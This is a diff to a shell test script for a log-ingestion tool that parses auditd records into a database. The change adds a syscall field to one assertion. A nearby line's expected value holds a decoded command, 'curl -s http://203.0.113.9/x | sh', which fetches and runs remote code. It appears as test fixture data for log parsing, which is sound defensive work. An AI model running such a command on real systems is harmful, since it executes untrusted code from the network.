@@ -58,7 +58,7 @@ expect_eq sniffed_by_content "$(q "$TMP/s" "SELECT DISTINCT source FROM events")
 # ---- audit.log ------------------------------------------------------------------------
 expect_rc audit_ingest_one_bad_stamp 3 "$KS" ingest -q "$TMP/a" "$TMP/fx/audit.log" "$TMP/fx/audit_enriched.log"
 au() { q "$TMP/a" "SELECT $2 FROM events e JOIN auditd a ON a.event_id = e.id WHERE e.file LIKE '%/$1' AND e.line = $3"; }
-expect_eq audit_time_node_serial "$(au audit.log "e.time || ' ' || e.host || ' ' || a.serial || ' ' || a.key" 1)" "2024-03-07T04:02:16.123000000Z web1 100 exec_watch"
+expect_eq audit_time_node_serial "$(au audit.log "e.time || ' ' || e.host || ' ' || a.serial || ' ' || a.key || ' ' || a.syscall" 1)" "2024-03-07T04:02:16.123000000Z web1 100 exec_watch execve"
 expect_eq audit_execve_hex_arg "$(au audit.log "a.a2 || '|' || a.cmdline || '|' || a.argc" 2)" "curl -s http://203.0.113.9/x | sh|/bin/sh -c curl -s http://203.0.113.9/x | sh tail|4"
 expect_eq audit_cwd_hex "$(au audit.log "a.cwd" 3)" "/tmp/my dir"
 expect_eq audit_path "$(au audit.log "a.name || ' ' || a.nametype || ' ' || a.inode || ' ' || a.mode" 4)" "/bin/sh NORMAL 131 0100755"
